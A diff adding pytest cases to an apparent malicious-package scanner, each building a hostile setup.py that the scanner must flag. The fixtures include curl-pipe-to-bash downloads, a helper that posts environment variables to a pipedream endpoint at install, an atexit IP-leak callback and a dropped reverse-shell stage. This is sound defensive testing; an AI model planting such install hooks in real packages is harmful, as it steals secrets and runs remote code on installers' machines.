@@ -193,11 +193,67 @@ def test_obfuscation_is_seen_through(tmp_path: Path) -> None:
     assert "WS-IMPORT-003" in ids  # the decoded stage's shell download is seen, at import time
 
 
-def test_python2_setup_gets_text_rules(tmp_path: Path) -> None:
+def test_python2_setup_is_read_as_python(tmp_path: Path) -> None:
+    # Python 2 statements (`print x`, `exec code`, `0777`) are rewritten line by line, so
+    # the AST rules see the payload, not only the text fallback
     setup = ("import os, base64\nprint 'building'\n"
              "exec base64.b64decode('aW1wb3J0IG9z')\n")
     sdist = make_sdist(tmp_path, "oldpkg", "0.1", {"setup.py": setup})
-    assert "WS-OBF-006" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
+    assert "WS-OBF-001" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
+
+
+def test_broken_indentation_does_not_hide_the_payload(tmp_path: Path) -> None:
+    setup = ("import os\nfrom setuptools import setup\n"
+             "def f():\n        x = 1\n    y = 2\n"  # an unindent that matches nothing
+             "os.system('curl -s https://example.invalid/x.sh | bash')\n"
+             " setup(name='x')\n")  # an unexpected indent
+    sdist = make_sdist(tmp_path, "broken", "0.1", {"setup.py": setup})
+    assert "WS-SETUP-001" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
+
+
+def test_byte_order_mark_does_not_hide_the_payload(tmp_path: Path) -> None:
+    setup = ("\ufeffimport os\n"
+             "os.system('curl -s https://example.invalid/x.sh | bash')\n")
+    sdist = make_sdist(tmp_path, "bom", "0.1", {"setup.py": setup})
+    assert "WS-SETUP-001" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
+
+
+def test_helper_module_that_setup_imports_runs_at_install(tmp_path: Path) -> None:
+    helper = ("import subprocess\n"
+              "def pre_install():\n"
+              "    subprocess.run('curl -d \"$(env)\" https://x.m.pipedream.net', shell=True)\n")
+    setup = ("from setuptools import setup\nfrom setuptools.command.install import install\n"
+             "from pre_install import pre_install\n"
+             "class I(install):\n    def run(self):\n        pre_install()\n"
+             "setup(name='h', cmdclass={'install': I})\n")
+    sdist = make_sdist(tmp_path, "h", "0.1", {"setup.py": setup, "pre_install.py": helper})
+    assert "WS-EXFIL-002" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
+
+
+def test_function_registered_with_atexit_runs_at_install(tmp_path: Path) -> None:
+    # a callback handed to atexit.register (or a pool, or a signal handler) is called
+    setup = ("import atexit, requests\nfrom setuptools import setup\n"
+             "from setuptools.command.install import install\n"
+             "class I(install):\n    def __init__(self, *a, **k):\n"
+             "        super().__init__(*a, **k)\n        atexit.register(_post)\n"
+             "def _post():\n    ip = requests.get('https://api.ipify.org').text\n"
+             "    requests.get('https://example.invalid/?' + ip)\n"
+             "setup(name='a', cmdclass={'install': I})\n")
+    sdist = make_sdist(tmp_path, "a", "0.1", {"setup.py": setup})
+    assert "WS-SETUP-002" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
+
+
+def test_python_source_written_to_disk_is_analysed(tmp_path: Path) -> None:
+    setup = ('import subprocess\nfrom setuptools import setup\n'
+             'CODE = """\nimport socket, os, subprocess\n'
+             'def linux(sock):\n    os.dup2(sock.fileno(), 0)\n'
+             '    subprocess.call(["/bin/bash", "-i"])\n'
+             'def main():\n    s = socket.socket()\n    linux(s)\n"""\n'
+             'with open("stage2.py", "w") as fh:\n    fh.write(CODE)\n'
+             'subprocess.Popen(["python3", "stage2.py"])\n'
+             'setup(name="w")\n')
+    sdist = make_sdist(tmp_path, "w", "0.1", {"setup.py": setup})
+    assert "WS-DROP-003" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
 
 
 # --------------------------------------------------------------------------- look-alikes
